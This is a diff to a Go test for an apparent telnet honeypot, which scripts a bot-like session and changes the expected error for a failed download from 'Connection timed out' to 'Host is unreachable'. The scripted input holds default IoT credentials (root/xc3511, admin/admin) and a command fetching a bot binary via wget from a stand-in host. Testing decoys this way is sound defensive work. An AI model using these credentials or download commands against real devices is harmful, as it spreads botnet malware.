@@ -99,7 +99,7 @@ func TestBotThatKnowsNoTelnet(t *testing.T) {
 	d := decoytest.StartAs(t, id, "telnet")
 	out := talk(t, d.Dial(23), [2]string{"ogin: ", "root\r\n"}, [2]string{"assword: ", "xc3511\r\n"}, [2]string{"incorrect", ""}, [2]string{"ogin: ", "admin\n"}, [2]string{"assword: ", "admin\n"},
 		[2]string{"$ ", "enable; cat /proc/cpuinfo | grep -i bogo; wget http://203.0.113.9/bot\r\n"}, [2]string{"$ ", "exit\n"})
-	for _, want := range []string{"-sh: enable: not found", "BogoMIPS", "can't connect to remote host (203.0.113.9): Connection timed out"} {
+	for _, want := range []string{"-sh: enable: not found", "BogoMIPS", "can't connect to remote host (203.0.113.9): Host is unreachable"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("the session lacks %q:\n%s", want, out)
 		}
